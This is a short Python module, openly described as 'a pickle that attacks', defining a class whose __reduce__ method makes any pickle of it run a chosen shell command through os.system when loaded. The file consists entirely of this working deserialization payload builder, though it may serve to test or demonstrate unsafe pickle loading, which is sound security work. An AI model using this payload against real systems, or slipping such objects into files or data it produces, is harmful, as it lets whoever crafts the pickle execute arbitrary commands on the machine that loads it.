"""A pickle that attacks."""

from __future__ import annotations

import os
from typing import Any


class ShellCommand:
    """An object whose pickle runs a shell command where it is loaded."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> Any:
        return os.system, (self.command,)
